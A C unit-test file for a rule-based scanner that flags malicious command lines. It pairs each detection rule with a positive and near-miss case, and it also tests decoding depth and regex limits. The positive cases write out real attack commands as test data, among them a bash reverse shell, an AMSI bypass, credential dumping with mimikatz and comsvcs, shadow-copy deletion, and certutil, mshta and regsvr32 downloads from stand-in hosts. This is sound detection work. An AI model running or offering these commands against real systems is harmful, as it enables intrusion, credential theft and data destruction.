/*
 * plugins/cmdline/test_cmd_scan.c -- white-box tests of the rule file and
 * the scanner (no host, no tables).  Every rule of conf/cmdline_rules.yaml
 * must have a positive and a near-miss negative case here; each case
 * compares the complete list of hits ("rule_id" on the text itself,
 * "rule_id@N" N decodings deep), in output order.  The OTRF and MSTICPy
 * command lines and their offsets were checked independently with
 * derive_expected.py (Python's re on bytes, base64 and utf-16-le).
 */
#include "cmd_rules.c"
/* after cmd_rules.c, whose types it uses */
#include "cmd_scan.c"

#include <tap.h>

static cmd_rules rules;
static cmd_scanner sc;
static char result[8192];

static const char *
scan_n(const char *text, size_t len)
{
  size_t o = 0;
  if (cmd_scan_text(&sc, text, len) != HK_OK)
    return "ERROR";
  result[0] = '\0';
  for (size_t i = 0; i < sc.nhit && o < sizeof result; i++) {
    const cmd_hit *h = &sc.hit[i];
    int depth = sc.layer[h->layer].depth;
    o += (size_t)snprintf(result + o, sizeof result - o, "%s%s", i ? "," : "",
                          rules.rule[h->rule].id);
    if (depth && o < sizeof result)
      o += (size_t)snprintf(result + o, sizeof result - o, "@%d", depth);
  }
  return result;
}

static const char *
scan(const char *text)
{
  return scan_n(text, strlen(text));
}

/* One rule: a line it must flag (with every other hit on that line) and a
 * near miss it must not flag (again with everything else that hits). */
typedef struct rule_case {
  const char *rule;
  const char *positive;
  const char *positive_hits;
  const char *negative;
  const char *negative_hits;
} rule_case;

static const rule_case cases[] = {
    {"ps_encoded_command", "powershell.exe -NoProfile -enc dwBoAG8AYQBtAGkA",
     "ps_encoded_command",
     "powershell.exe -NoProfile -File C:\\scripts\\encode.ps1", ""},
    {"ps_execution_policy_bypass",
     "powershell -ExecutionPolicy Bypass -File x.ps1",
     "ps_execution_policy_bypass",
     "powershell.exe -ExecutionPolicy RemoteSigned -File x.ps1", ""},
    {"ps_hidden_window", "powershell -w hidden -c Get-Date", "ps_hidden_window",
     "powershell -WindowStyle Maximized -c Get-Date", ""},
    {"ps_download_cradle",
     "powershell -c \"IEX (New-Object "
     "Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')\"",
     "ps_download_cradle,ps_web_download",
     "powershell -c \"Invoke-WebRequest -Uri https://example.com -OutFile "
     "index.html\"",
     "ps_web_download"},
    {"ps_web_download",
     "powershell -c \"(New-Object "
     "System.Net.WebClient).DownloadFile('http://x.test/a.exe','a.exe')\"",
     "ps_web_download", "powershell -c \"Get-ChildItem C:\\Logs\\webclient\"",
     ""},
    {"ps_amsi_bypass",
     "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')."
     "GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
     "ps_amsi_bypass", "powershell -c \"Get-Help about_Amsi\"", ""},
    {"ps_scriptblock_logging_tamper",
     "$GPS=[ref].Assembly.GetType('System.Management.Automation.Utils')."
     "GetField('cachedGroupPolicySettings','NonPublic,Static')",
     "ps_scriptblock_logging_tamper",
     "reg query "
     "HKLM\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\"
     "ScriptBlockLogging",
     ""},
    {"ps_frombase64", "powershell -c \"$b=[Convert]::FromBase64String($s)\"",
     "ps_frombase64", "powershell -c \"[Convert]::ToBase64String($bytes)\"",
     ""},
    {"ps_reflective_load",
     "powershell -c \"[System.Reflection.Assembly]::Load($bytes)\"",
     "ps_reflective_load",
     "powershell -c \"[Reflection.Assembly]::GetExecutingAssembly().Location\"",
     ""},
    {"defender_tamper",
     "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
     "defender_tamper",
     "powershell Set-MpPreference -SignatureUpdateInterval 4", ""},
    {"certutil_decode", "certutil -decode payload.b64 payload.exe",
     "certutil_decode", "certutil -hashfile setup.exe SHA256", ""},
    {"certutil_download",
     "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe "
     "C:\\Users\\Public\\a.exe",
     "certutil_download", "certutil -urlcache * delete", ""},
    {"mshta_script", "mshta http://evil.test/payload.hta", "mshta_script",
     "mshta.exe \"C:\\Program Files\\App\\help.hta\"", ""},
    {"rundll32_comsvcs_minidump",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, #24 624 "
     "C:\\temp\\out.dmp full",
     "rundll32_comsvcs_minidump",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll,DllRegisterServer", ""},
    {"rundll32_script",
     "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication "
     "\";document.write();GetObject(\"script:http://x.test/a.sct\")",
     "rundll32_script", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", ""},
    {"regsvr32_scriptlet",
     "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll",
     "regsvr32_scriptlet", "regsvr32 /s C:\\Windows\\System32\\vbscript.dll",
     ""},
    {"bitsadmin_transfer",
     "bitsadmin /transfer job /download /priority high http://x.test/a.exe "
     "C:\\a.exe",
     "bitsadmin_transfer", "bitsadmin /list /allusers /verbose", ""},
    {"wmic_process_create", "wmic process call create \"cmd.exe /c whoami\"",
     "wmic_process_create", "wmic process list brief", ""},
    {"wmic_remote_node",
     "wmic /node:10.0.0.8 /user:admin process call create \"cmd /c calc\"",
     "wmic_process_create,wmic_remote_node",
     "wmic /node:localhost os get caption", ""},
    {"wmic_remote_xsl", "wmic os get /format:\"https://example.test/evil.xsl\"",
     "wmic_remote_xsl", "wmic os get /format:list", ""},
    {"schtasks_remote_create",
     "schtasks /s fs01 /u corp\\admin /create /tn upd /tr c:\\a.exe /sc once "
     "/st 00:00",
     "schtasks_remote_create",
     "schtasks /create /tn Backup /tr C:\\backup.exe /sc daily /st 02:00", ""},
    {"schtasks_script_action",
     "schtasks /create /tn upd /tr \"powershell -w hidden -c "
     "Get-Date\" /sc minute",
     "schtasks_script_action,ps_hidden_window", "schtasks /query /tn upd", ""},
    {"vssadmin_delete_shadows", "vssadmin.exe delete shadows /all /quiet",
     "vssadmin_delete_shadows", "vssadmin list shadows", ""},
    {"wmic_shadowcopy_delete", "wmic shadowcopy delete /nointeractive",
     "wmic_shadowcopy_delete", "wmic shadowcopy list brief", ""},
    {"recovery_disabled", "bcdedit /set {default} recoveryenabled no",
     "recovery_disabled", "bcdedit /enum all", ""},
    {"eventlog_clear", "wevtutil cl Security", "eventlog_clear",
     "wevtutil qe Security /c:5 /f:text", ""},
    {"registry_hive_dump", "reg save HKLM\\SAM C:\\temp\\sam.save",
     "registry_hive_dump", "reg save HKLM\\Software\\MyApp C:\\backup\\app.hiv",
     ""},
    {"ntds_dump", "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q",
     "ntds_dump", "ntdsutil \"metadata cleanup\" quit", ""},
    {"procdump_lsass",
     "procdump64.exe -accepteula -ma lsass.exe "
     "C:\\temp\\lsass.dmp",
     "procdump_lsass", "procdump -ma notepad.exe", ""},
    {"mimikatz",
     "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
     "mimikatz", "echo [System.String]::Empty", ""},
    {"net_user_add", "net user backdoor P@ssw0rd! /add", "net_user_add",
     "net user alice /domain", ""},
    {"net_admin_group_add", "net localgroup administrators backdoor /add",
     "net_admin_group_add", "net localgroup administrators", ""},
    {"firewall_disabled", "netsh advfirewall set allprofiles state off",
     "firewall_disabled", "netsh advfirewall show allprofiles", ""},
    {"msiexec_remote", "msiexec /q /i http://x.test/a.msi", "msiexec_remote",
     "msiexec /i C:\\setup\\app.msi /qn", ""},
    {"remote_service_create",
     "sc \\\\fileserver01 create updsvc binPath= \"cmd /c c:\\temp\\a.exe\"",
     "remote_service_create", "sc query wuauserv", ""},
    {"psexec_remote", "psexec.exe \\\\10.0.0.12 -u admin -s cmd.exe",
     "psexec_remote", "psexec -i -s cmd.exe", ""},
    {"cmstp_inf", "cmstp.exe /ni /s C:\\Users\\Public\\evil.inf", "cmstp_inf",
     "cmstp.exe /?", ""},
    {"installutil_uninstall",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe "
     "/logfile= /LogToConsole=false /U C:\\Users\\Public\\a.dll",
     "installutil_uninstall", "InstallUtil.exe MyService.exe", ""},
    {"ssh_authorized_keys",
     "echo ssh-rsa AAAAB3NzaC1yc2E x@y >> /root/.ssh/authorized_keys",
     "ssh_authorized_keys", "cat ~/.ssh/known_hosts", ""},
    {"download_pipe_shell",
     "curl -fsSL https://get.example.test/install | "
     "sudo bash",
     "download_pipe_shell",
     "curl -s https://example.com/show.html -o show.html", ""},
    {"fork_bomb", ":(){ :|:& };:", "fork_bomb", "echo \":)\"", ""},
    {"history_tamper", "mv ~/.bash_history /dev/null", "history_tamper",
     "mv /tmp/build.log /var/log/build.log", ""},
    {"bin_bash", "sudo /bin/bash", "bin_bash", "/usr/bin/zsh -l", ""},
    {"reverse_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell",
     "nc -zv db01 5432", ""},
    {"base64_pipe_shell",
     "echo cHl0aG9uMyAtYyAnaW1wb3J0IG9zJw== | base64 -d | sh",
     "base64_pipe_shell", "base64 -d key.b64 > key.bin", ""},
    {"chmod_exec_tmp", "chmod +x /tmp/.x/miner", "chmod_exec_tmp",
     "chmod 644 /tmp/report.txt", ""},
};

static void
test_rule_cases(void)
{
  size_t ncases = sizeof cases / sizeof cases[0];
  for (size_t i = 0; i < ncases; i++) {
    is_str(scan(cases[i].positive), cases[i].positive_hits, "%s: positive",
           cases[i].rule);
    is_str(scan(cases[i].negative), cases[i].negative_hits, "%s: near miss",
           cases[i].rule);
  }
  /* every rule of the shipped file has its two cases */
  for (size_t r = 0; r < rules.n; r++) {
    int found = 0;
    for (size_t i = 0; i < ncases; i++)
      found |= strcmp(cases[i].rule, rules.rule[r].id) == 0;
    ok(found, "rule %s has a positive and a near-miss case", rules.rule[r].id);
  }
  is_int(rules.n, ncases, "one case per rule, no case without a rule");
}

static void
test_more_lines(void)
{
  /* every spelling PowerShell accepts for -EncodedCommand */
  static const char *const flags[] = {"-e",
                                      "-ec",
                                      "-en",
                                      "-enc",
                                      "-enco",
                                      "-EncodedCommand",
                                      "/enc",
                                      "\xe2\x80\x93"
                                      "enc",
                                      "\xe2\x80\x94"
                                      "e",
                                      "-ENCODEDCOMMAND"};
  for (size_t i = 0; i < sizeof flags / sizeof flags[0]; i++) {
    char line[256];
    snprintf(line, sizeof line, "powershell %s dwBoAG8AYQBtAGkA", flags[i]);
    is_str(scan(line), "ps_encoded_command", "-EncodedCommand spelt %s",
           flags[i]);
  }
  is_str(scan("powershell -ea dwBoAG8AYQBtAGkA"), "",
         "-ea is not -EncodedCommand");
  is_str(scan("powershell -ep bypass -enc"), "ps_execution_policy_bypass",
         "-enc without a payload");

  /* real lines from the fixtures */
  is_str(scan("mshta  vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\")"
              ".Run \"\"powershell -noexit -command Get-Service "
              "sysmon\"\":close\")"),
         "mshta_script", "OTRF cmd_mshta_vbscript_execute_psh");
  is_str(scan("\"C:\\Windows\\System32\\rundll32.exe\" "
              "C:\\windows\\System32\\comsvcs.dll MiniDump 756 "
              "C:\\Users\\wardog\\AppData\\Local\\Temp\\lsass-comsvcs.dmp "
              "full"),
         "rundll32_comsvcs_minidump", "OTRF psh_lsass_memory_dump_comsvcs");
  is_int(sc.hit[0].off, 21, "match starts at rundll32");
  is_int(sc.hit[0].len, 54, "match runs to MiniDump");
  is_str(scan("schtasks  /create /F /tn "
              "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\"
              "EventCacheManager /tr \"C:\\Windows\\system32\\cmd.exe /C "
              "C:\\Windows\\System32\\notepad.exe\" /sc ONSTART /ru system /S "
              "WORKSTATION6"),
         "schtasks_remote_create,schtasks_script_action",
         "OTRF schtask_create (Sysmon 1)");

  /* decoded layers */
  is_str(scan("pwsh \xe2\x80\x93"
              "ec "
              "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"
              "bABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgA"
              "dAB0AHAAOgAvAC8AeAAuAHQAZQBzAHQALwBhACcAKQA="),
         "ps_encoded_command,ps_download_cradle@1,ps_web_download@1",
         "cradle inside -ec (en dash)");
  is_str(sc.layer[1].text,
         "IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
         "decoded text is UTF-8");
  {
    static const char nested[] =
        "powershell -e "
        "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABZAHcAQgBsAEEASABJAEEAZABB"
        "AEIAMQBBAEgAUQBBAGEAUQBCAHMAQQBDAEEAQQBMAFEAQgAxAEEASABJAEEAYgBBAEIA"
        "agBBAEcARQBBAFkAdwBCAG8AQQBHAFUAQQBJAEEAQQB0AEEASABNAEEAYwBBAEIAcwBB"
        "AEcAawBBAGQAQQBBAGcAQQBDADAAQQBaAGcAQQBnAEEARwBnAEEAZABBAEIAMABBAEgA"
        "QQBBAE8AZwBBAHYAQQBDADgAQQBlAEEAQQB1AEEASABRAEEAWgBRAEIAegBBAEgAUQBB"
        "AEwAdwBCAGgAQQBDADQAQQBaAFEAQgA0AEEARwBVAEEASQBBAEIAaABBAEMANABBAFoA"
        "UQBCADQAQQBHAFUAQQA=";
    is_str(scan(nested),
           "ps_encoded_command,ps_encoded_command@1,certutil_download@2",
           "two encodings deep");
    sc.max_depth = 1;
    is_str(scan(nested), "ps_encoded_command,ps_encoded_command@1",
           "max_depth 1 stops after one decoding");
    sc.decode = 0;
    is_str(scan(nested), "ps_encoded_command", "decode off");
    sc.decode = 1;
    sc.max_depth = 3;
  }
  is_str(scan("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | "
              "base64 -d | bash"),
         "base64_pipe_shell,reverse_shell@1", "base64 run on Linux decoded");
  is_str(scan("d2dldCAtcSAtTy0gaHR0cDovL3gudGVzdC9pLnNoIHwgc2g="),
         "download_pipe_shell@1",
         "a cell that is all base64 (MSTICPy decodes it, then ignores it)");
  is_str(scan("sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b"
              "7852b855"),
         "", "hex digest is not decoded into a layer");
  is_int(sc.nlayer, 1, "no layer for binary bytes");
}

static void
test_hostile(void)
{
  size_t big = 1u << 20;
  char *line = malloc(big + 128);
  const char tail[] = " certutil -urlcache -split -f http://x.test/a.exe";
  size_t n;

  /* 1 MiB of one letter (also one huge base64 run), then a real hit */
  memset(line, 'a', big);
  memcpy(line + big, tail, sizeof tail);
  n = big + sizeof tail - 1;
  is_str(scan_n(line, n), "certutil_download", "1 MiB line: hit at the end");
  is_int(sc.hit[0].off, big + 1, "offset of the hit");
  is_int(sc.nlimited, 0, "no rule gave up");

  /* 1 MiB of "certutil ": 116,508 places where both certutil rules start
   * and skip ahead; the atomic skips keep each one short, so no rule gives
   * up and nothing is found */
  for (n = 0; n + 9 <= big; n += 9)
    memcpy(line + n, "certutil ", 9);
  is_str(scan_n(line, n), "", "1 MiB of 'certutil ': no hit");
  is_int(sc.nlimited, 0, "and no rule gave up");
  for (n = 0; n + 17 <= big; n += 17)
    memcpy(line + n, "schtasks /create ", 17);
  is_str(scan_n(line, n), "", "1 MiB of 'schtasks /create ': no hit");
  is_int(sc.nlimited, 0, "and no rule gave up");

  /* a catastrophic pattern (nested repetition) gives up at the limit and
   * the text's other rules still run */
  {
    cmd_rules bad;
    cmd_scanner s2;
    char e2[256];
    static const char yaml_text[] =
        "rules:\n"
        "  - {id: nested, name: N, techniques: [T1059], severity: low,\n"
        "     patterns: ['(?:a|aa)+$']}\n"
        "  - {id: plain, name: P, techniques: [T1059], severity: low,\n"
        "     patterns: ['b$']}\n";
    int rc = cmd_rules_load_text(&bad, "bad.yaml", yaml_text,
                                 sizeof yaml_text - 1, e2, sizeof e2);
    is_int(rc, HK_OK, "rule with a nested repetition loads");
    if (rc == HK_OK) {
      cmd_scanner_init(&s2, &bad, 10000, e2, sizeof e2);
      memset(line, 'a', 60);
      line[60] = 'b';
      cmd_scan_text(&s2, line, 61);
      is_int(s2.nlimited, 1, "it gives up at match_limit=10000");
      is_int(s2.nhit, 1, "the other rule still hits");
      cmd_scanner_free(&s2);
      cmd_rules_free(&bad);
    }
  }
  free(line);
}

static void
test_rule_file_errors(void)
{
  cmd_rules rs;
  char msg[512];
  int rc;
#define LOAD(text)                                                             \
  cmd_rules_load_text(&rs, "r.yaml", text, strlen(text), msg, sizeof msg)

  rc = LOAD("rules:\n  - id: a\n    name: A\n    techniques: [T1059]\n"
            "    severity: hgh\n    patterns: ['x']\n");
  is_int(rc, HK_E_CONFIG, "bad severity refused");
  is_str(msg,
         "r.yaml:5: rule 'a': severity: expected informational, low, medium "
         "or high, got 'hgh'",
         "message names file, line, rule and field");
  rc = LOAD("rules:\n  - id: a\n    name: A\n    techniques: [T105]\n"
            "    severity: low\n    patterns: ['x']\n");
  is_str(msg,
         "r.yaml:4: rule 'a': techniques: 'T105' is not an ATT&CK technique id "
         "(T1234 or T1234.001)",
         "bad technique id");
  rc = LOAD("rules:\n  - id: a\n    name: A\n    techniques: [T1059]\n"
            "    severity: low\n    patterns: ['x(']\n");
  is_int(rc, HK_E_CONFIG, "bad regex refused");
  is_str(msg,
         "r.yaml:6: rule 'a': pattern 1 does not compile at offset 2: missing "
         "closing parenthesis",
         "regex error with offset");
  LOAD("rules:\n  - id: a\n    name: A\n    technique: [T1059]\n");
  is_str(msg,
         "r.yaml:4: unknown rule field 'technique' (fields: id, name, "
         "techniques, severity, platform, description, patterns)",
         "misspelt field");
  LOAD("rules:\n  - id: a\n    name: A\n    techniques: T1059\n"
       "    severity: low\n    patterns: x\n  - id: a\n    name: B\n"
       "    techniques: T1059\n    severity: low\n    patterns: y\n");
  is_str(msg, "r.yaml:7: rule id 'a' is used twice (first at line 2)",
         "duplicate id");
  LOAD("rules: [\n");
  like(msg, "r.yaml:2:1: not valid YAML", "YAML syntax error");
  LOAD("rules:\n  - id: a\n    name: A\n    techniques: [T1059]\n"
       "    severity: low\n");
  is_str(msg, "r.yaml:2: rule 'a': missing field 'patterns'", "missing field");

  /* MSTICPy's own rule file (resources/cmd_line_rules.json) */
  rc = LOAD("{\n    \"Syslog\" : [\n        \".*authorized_keys.*\",\n"
            "        \".*(wget|curl).*\\\\|?.*sh.*\",\n"
            "        \".*(:\\\\(\\\\){:\\\\|:&};:).*\",\n"
            "        \".*(mv.*\\/dev\\/null).*\",\n"
            "        \".*\\/bin\\/bash.*\"\n    ]\n}");
  is_int(rc, HK_OK, "MSTICPy JSON rules load");
  is_int(rs.n, 5, "five rules");
  if (rc == HK_OK) {
    cmd_scanner s2;
    char e2[128];
    is_str(rs.rule[1].id, "Syslog.2", "ids are <log type>.<n>");
    is_str(rs.rule[1].platform, "Syslog", "platform is the log type");
    cmd_scanner_init(&s2, &rs, 1000000, e2, sizeof e2);
    cmd_scan_text(&s2, "curl -s https://example.com/show.html -o x", 42);
    is_int(s2.nhit, 1, "MSTICPy's curl rule flags a URL containing 'sh'");
    cmd_scanner_free(&s2);
    cmd_rules_free(&rs);
  }
#undef LOAD
}

int
main(void)
{
  char path[4096], msg[512];
  const char *src = getenv("HK_SRCDIR");
  int rc;

  snprintf(path, sizeof path, "%s/conf/cmdline_rules.yaml", src ? src : ".");
  rc = cmd_rules_load_file(&rules, path, msg, sizeof msg);
  if (!ok(rc == HK_OK, "shipped rule file loads")) {
    diag("%s", msg);
    return done_testing();
  }
  if (!ok(cmd_scanner_init(&sc, &rules, 1000000, msg, sizeof msg) == HK_OK,
          "scanner starts")) {
    diag("%s", msg);
    return done_testing();
  }
  test_rule_cases();
  test_more_lines();
  test_hostile();
  test_rule_file_errors();
  cmd_scanner_free(&sc);
  cmd_rules_free(&rules);
  return done_testing();
}
